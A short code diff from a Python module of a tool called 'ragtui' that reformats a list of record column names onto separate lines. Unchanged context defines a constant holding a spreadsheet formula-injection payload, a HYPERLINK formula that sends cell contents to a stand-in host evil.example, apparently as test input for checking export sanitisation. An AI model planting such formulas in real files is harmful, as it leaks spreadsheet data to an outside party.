@@ -16,7 +16,18 @@ from ragtui.core.record.store import Store
 from ragtui.core.records.judgments import Judgment
 from ragtui.core.records.stored import StoredSession
 
-PLAIN = ["run", "scenario", "persona", "trial", "language", "date", "customer_model", "bot_model", "judge_model", "judge_agreement"]
+PLAIN = [
+    "run",
+    "scenario",
+    "persona",
+    "trial",
+    "language",
+    "date",
+    "customer_model",
+    "bot_model",
+    "judge_model",
+    "judge_agreement",
+]
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 
 
